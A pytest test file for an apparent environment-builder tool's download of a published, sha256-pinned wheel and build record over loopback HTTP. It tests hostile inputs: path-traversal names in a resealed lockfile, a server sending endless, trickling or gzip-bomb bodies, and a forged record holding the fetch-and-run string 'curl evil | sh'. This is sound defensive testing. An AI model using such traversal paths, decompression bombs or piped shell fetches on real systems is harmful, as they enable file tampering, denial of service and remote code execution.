"""``install`` of a source build takes the wheel published beside the lockfile.

The GPU matrix run publishes the built wheel and its build record as release assets
beside ``compat.lock.json``; a release is served here over loopback http. The wheel is
installed only when its sha256 is the one the lockfile's build record pins; it then
lies in the build cache, where the next install (and an image build) finds it. A dry
run downloads nothing; a lockfile naming a build key or a wheel file name that is no
such name is refused before anything is read, downloaded or deleted; a body that does
not end, trickles or inflates is cut off.
"""

from __future__ import annotations

import functools
import gzip
import hashlib
import http.server
import json
import os
import shutil
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from envbuilder.cli import main
from envbuilder.consumer import published_wheel
from envbuilder.consumer.published_wheel import wheel_for_install
from envbuilder.errors import IndexError_, InputError
from envbuilder.lockfile.canonical import HASH_KEY, content_sha256
from envbuilder.lockfile.read import load_lockfile
from envbuilder.settings import Settings
from envbuilder.sourcebuild.cache import RECORD_NAME
from envbuilder.sourcebuild.published import record_asset, wheel_asset
from tests.unit.test_source_build_lockfile import (
    BUILT,
    KEY,
    SDIST,
    fake_wheel,
    locked_with_wheel,
    record,
    workdir,
)

__all__ = ["workdir"]  # the fixture used here

WHEEL_NAME = "xformers-0.0.35-py39-none-linux_x86_64.whl"


class _Release(http.server.SimpleHTTPRequestHandler):
    asked: list[str]

    def do_GET(self) -> None:
        self.asked.append(self.path)
        super().do_GET()

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def release(workdir: Path) -> Iterator[tuple[str, list[str]]]:
    """The lockfile and its locks served as a release serves its assets; the requested paths."""
    asked: list[str] = []
    handler = type("Handler", (_Release,), {"asked": asked})
    server = http.server.ThreadingHTTPServer(
        ("127.0.0.1", 0), functools.partial(handler, directory=str(workdir))
    )
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/compat.lock.json", asked
    server.shutdown()
    server.server_close()


def publish(workdir: Path, built: Path, served: bytes | None = None) -> str:
    """Lock *built* as BUILT's measured wheel and publish it (or *served* bytes under its
    name) with its build record beside the lockfile; the wheel's sha256."""
    locked_with_wheel(workdir, built)
    sha = hashlib.sha256(built.read_bytes()).hexdigest()
    (workdir / wheel_asset(BUILT, built.name)).write_bytes(
        built.read_bytes() if served is None else served
    )
    data = record()
    data["wheel"] = {"filename": built.name, "sha256": sha, "size": built.stat().st_size}
    (workdir / record_asset(BUILT)).write_text(json.dumps(data))
    shutil.rmtree(built.parent)  # nothing local: the release is the only copy
    return sha


def install(url: str, cache: Path) -> int:
    """``install --dry-run`` of BUILT from the lockfile at *url*."""
    argv = ["install", BUILT, "--allow-unverified", "--lock", url, "--dry-run"]
    return main([*argv, "--installer", "pip", "--build-cache", str(cache)])


def take(url: str, cache: Path, workdir: Path) -> tuple[Path | None, str | None]:
    """What a real ``install`` does for BUILT's wheel before installing it: take it from
    the cache, else download it from beside the lockfile at *url*."""
    entry = load_lockfile(workdir / "compat.lock.json").by_id()[BUILT]
    settings = Settings.from_environment(os.environ)
    return wheel_for_install(entry, wheel=None, build_cache=cache, lock_url=url, settings=settings)


def test_the_asset_names_are_unique_per_combination_and_keep_to_safe_characters() -> None:
    assert wheel_asset(BUILT, WHEEL_NAME) == f"{BUILT}.{WHEEL_NAME}"
    assert wheel_asset("a", "x-1.0+cu130-py3-none-any.whl") == "a.x-1.0_cu130-py3-none-any.whl"
    assert record_asset(BUILT) == f"build-record.{BUILT}.json"


def test_the_published_wheel_is_downloaded_checked_and_cached(
    workdir: Path, release: tuple[str, list[str]]
) -> None:
    url, asked = release
    built = fake_wheel(workdir / "built", b"the wheel the GPU run built and measured")
    sha = publish(workdir, built)
    cache = workdir / "build-cache"
    path, said = take(url, cache, workdir)
    assert said is not None
    assert f"xformers: the published build {WHEEL_NAME} (sha256 {sha[:12]}, checked)" in said
    cached = cache / KEY / WHEEL_NAME
    assert path == cached and hashlib.sha256(cached.read_bytes()).hexdigest() == sha
    kept = json.loads((cache / KEY / RECORD_NAME).read_text())
    assert (kept["key"], kept["wheel"]["sha256"]) == (KEY, sha)
    assert kept["source"].endswith(record_asset(BUILT))
    assert f"/{wheel_asset(BUILT, WHEEL_NAME)}" in asked
    # the next install finds it in the build cache: the wheel is not downloaded again
    asked.clear()
    assert take(url, cache, workdir) == (cached, None)
    assert f"/{wheel_asset(BUILT, WHEEL_NAME)}" not in asked


def test_a_dry_run_downloads_nothing_and_says_what_it_would(
    workdir: Path, release: tuple[str, list[str]], capsys: pytest.CaptureFixture[str]
) -> None:
    url, asked = release
    built = fake_wheel(workdir / "built", b"the wheel the GPU run built and measured")
    sha = publish(workdir, built)
    cache = workdir / "build-cache"
    capsys.readouterr()
    asked.clear()
    assert install(url, cache) == 0
    said = " ".join(capsys.readouterr().err.split())  # sentences are wrapped to the width
    assert f"xformers: the published build {WHEEL_NAME} (sha256 {sha[:12]}) from " in said
    assert "would be downloaded, checked and installed (dry run: not downloaded)" in said
    assert not cache.exists()
    assert [a for a in asked if a.endswith(".whl") or "build-record" in a] == []
    # once in the cache, the dry run shows the command that installs it
    take(url, cache, workdir)
    assert install(url, cache) == 0
    commands = [line for line in capsys.readouterr().err.splitlines() if "--no-index" in line]
    assert len(commands) == 1 and commands[0].endswith(f"/{WHEEL_NAME}")


def test_a_published_wheel_with_another_hash_is_refused_and_not_cached(
    workdir: Path, release: tuple[str, list[str]]
) -> None:
    url, _ = release
    built = fake_wheel(workdir / "built", b"the wheel the GPU run built and measured")
    sha = publish(workdir, built, served=b"a rebuild: other bytes")
    other = hashlib.sha256(b"a rebuild: other bytes").hexdigest()
    cache = workdir / "build-cache"
    with pytest.raises(InputError) as refused:
        take(url, cache, workdir)
    said = " ".join(str(refused.value).split())
    assert f"has sha256 {other}, not the {sha} that the lockfile's build record pins" in said
    assert "it was not installed nor cached" in said
    assert not (cache / KEY).exists()
    assert not [p for p in cache.rglob("*") if p.is_file()]  # no partial download left


@pytest.mark.parametrize("dry_run", [True, False], ids=["dry-run", "install"])
def test_without_a_published_wheel_install_says_how_to_get_one(
    workdir: Path,
    release: tuple[str, list[str]],
    capsys: pytest.CaptureFixture[str],
    dry_run: bool,
) -> None:
    url, _ = release
    built = fake_wheel(workdir / "built")
    publish(workdir, built)
    (workdir / wheel_asset(BUILT, WHEEL_NAME)).unlink()
    capsys.readouterr()
    if dry_run:
        assert install(url, workdir / "build-cache") == 2
        said = capsys.readouterr().err
    else:
        with pytest.raises(InputError) as refused:
            take(url, workdir / "build-cache", workdir)
        said = str(refused.value)
    said = " ".join(said.split())
    assert f"nothing is published at {url.removesuffix('compat.lock.json')}" in said
    assert "(HTTP 404), and" in said
    assert f"or build one with `envbuilder build-wheel {BUILT}`" in said


def reseal(workdir: Path, **build: Any) -> None:
    """Change BUILT's build record in the lockfile (``wheel_filename``: the wheel's name)
    and seal it again, as anyone serving a lockfile can."""
    path = workdir / "compat.lock.json"
    data = json.loads(path.read_text())
    (entry,) = (e for e in data["combinations"] if e["id"] == BUILT)
    for name, value in build.items():
        if name == "wheel_filename":
            entry["source_build"]["wheel"]["filename"] = value
        else:
            entry["source_build"][name] = value
    data[HASH_KEY] = content_sha256(data)
    path.write_text(json.dumps(data, indent=2, sort_keys=True) + "\n")


@pytest.mark.parametrize(
    "build",
    [
        {"key": "./././././../../victim"},
        {"key": "../" * 3},
        {"key": KEY.upper()},
        {"wheel_filename": "../../x.whl"},
        {"wheel_filename": "../victim/x-1.0-py3-none-any.whl"},
        {"wheel_filename": "/tmp/x-1.0-py3-none-any.whl"},
    ],
    ids=["key-dots", "key-parents", "key-upper", "wheel-parents", "wheel-dir", "wheel-absolute"],
)
@pytest.mark.parametrize("dry_run", [True, False], ids=["dry-run", "install"])
def test_a_lockfile_naming_a_path_outside_the_cache_is_refused_touching_nothing(
    workdir: Path,
    release: tuple[str, list[str]],
    capsys: pytest.CaptureFixture[str],
    build: dict[str, str],
    dry_run: bool,
) -> None:
    url, asked = release
    built = fake_wheel(workdir / "built", b"the wheel the GPU run built and measured")
    publish(workdir, built)
    reseal(workdir, **build)
    cache = workdir / "a" / "cache"  # its ../../victim is workdir/victim
    victim = workdir / "victim"
    victim.mkdir()
    (victim / "keep.txt").write_text("mine")
    (workdir / "a").mkdir()
    (workdir / "a" / "x.whl").write_text("mine too")  # what ../../x.whl from .downloads is
    asked.clear()
    capsys.readouterr()
    if dry_run:
        assert install(url, cache) == 2
        said = capsys.readouterr().err
    else:
        with pytest.raises(InputError) as refused:
            take(url, cache, workdir)
        said = str(refused.value)
    (bad,) = build.values()
    assert f"names {bad!r} where" in said
    assert "refusing to use it in a path" in said
    assert (victim / "keep.txt").read_text() == "mine"
    assert (workdir / "a" / "x.whl").read_text() == "mine too"
    assert [a for a in asked if a.endswith(".whl") or "build-record" in a] == []
    assert not cache.exists()


class _Misbehaving(http.server.BaseHTTPRequestHandler):
    """A release whose wheel never ends, trickles, or is a small gzip of a large body."""

    mode: str
    lockfile_dir: Path

    def do_GET(self) -> None:
        if not self.path.endswith(".whl"):
            body = (self.lockfile_dir / self.path.lstrip("/")).read_bytes()
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
            return
        self.send_response(200)
        if self.mode == "gzip":
            body = gzip.compress(b"\0" * (64 << 20))  # 64 MiB, 64 KiB on the wire
            self.send_header("Content-Encoding", "gzip")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
            return
        self.end_headers()  # no length: the body ends when the connection does
        try:
            while True:
                if self.mode == "endless":
                    self.wfile.write(b"x" * 65536)
                else:
                    self.wfile.write(b"x")
                    self.wfile.flush()
                    time.sleep(0.05)
        except OSError:
            return

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.mark.parametrize(
    ("mode", "said"),
    [
        ("endless", "the body is larger than {size} bytes; refusing it"),
        ("gzip", "the body is larger than {size} bytes once decompressed"),
        ("trickle", "the body was not read within 2 s in all"),
    ],
)
def test_a_published_wheel_is_read_no_larger_than_its_record_nor_longer_than_its_time(
    workdir: Path, monkeypatch: pytest.MonkeyPatch, mode: str, said: str
) -> None:
    built = fake_wheel(workdir / "built", b"the wheel the GPU run built and measured")
    size = built.stat().st_size
    publish(workdir, built)
    monkeypatch.setattr(published_wheel, "BASE_SECONDS", 2.0, raising=False)
    handler = type("Handler", (_Misbehaving,), {"mode": mode, "lockfile_dir": workdir})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    cache = workdir / "build-cache"
    started = time.monotonic()
    try:
        with pytest.raises(IndexError_) as refused:
            take(f"http://127.0.0.1:{server.server_port}/compat.lock.json", cache, workdir)
    finally:
        server.shutdown()
        server.server_close()
    assert said.format(size=size) in str(refused.value)
    assert time.monotonic() - started < 30
    assert not [p for p in cache.rglob("*") if p.is_file()]  # nothing kept


INPUTS = {
    "format": 2,
    "sdist_sha256": SDIST,
    "torch": "host:torch==2.11.0 record-sha256=" + "c" * 64,
    "toolchain": ["host-nvcc:" + "d" * 64],
    "arch_list": ["9.0"],
    "flags": ["TORCH_CUDA_ARCH_LIST=9.0"],
    "builder": "host:" + "e" * 64,
    "recipe": "f" * 64,
}
GENUINE = hashlib.sha256(
    json.dumps(INPUTS, sort_keys=True, separators=(",", ":")).encode()
).hexdigest()


def _changed(data: dict[str, Any], change: str) -> str:
    """The published record with one *change* that makes it no longer the lockfile's."""
    if change == "deep":
        return "[" * 100000
    if change == "nan":
        return json.dumps(data).replace('"seconds": 63.3', '"seconds": NaN')
    if change == "mode":
        data["mode"] = "docker"
    elif change == "cpp-lib":
        data["cpp_lib"] = {"version": {"cuda": 1200}}
    elif change == "extra-key":
        data["installed_by"] = "curl evil | sh"
    elif change == "key-inputs":
        data["key_inputs"]["flags"] = ["FORGED=1"]
    return json.dumps(data)


@pytest.mark.parametrize(
    "change", ["none", "deep", "nan", "mode", "cpp-lib", "extra-key", "key-inputs"]
)
def test_only_the_lockfiles_own_published_record_is_kept_in_the_cache(
    workdir: Path, release: tuple[str, list[str]], change: str
) -> None:
    url, _ = release
    built = fake_wheel(workdir / "built", b"the wheel the GPU run built and measured")
    sha = publish(workdir, built)
    reseal(workdir, key=GENUINE)
    published = workdir / record_asset(BUILT)
    data = json.loads(published.read_text())
    data.update(key=GENUINE, key_inputs=dict(INPUTS))
    published.write_text(_changed(data, change))
    cache = workdir / "build-cache"
    take(url, cache, workdir)
    kept = json.loads((cache / GENUINE / RECORD_NAME).read_text())
    build = load_lockfile(workdir / "compat.lock.json").by_id()[BUILT].source_build
    assert build is not None and kept["wheel"]["sha256"] == sha
    assert (kept["key"], kept["mode"], kept["cpp_lib"]) == (
        GENUINE,
        build.mode,
        None if build.cpp_lib is None else dict(build.cpp_lib),
    )
    assert "installed_by" not in kept
    if change == "none":  # the published record: its key inputs and its timing
        assert (kept["key_inputs"], kept["seconds"]) == (INPUTS, 63.3)
    else:  # made from the lockfile's entry
        assert kept["key_inputs"] == {"format": build.key_format}
        assert "seconds" not in kept
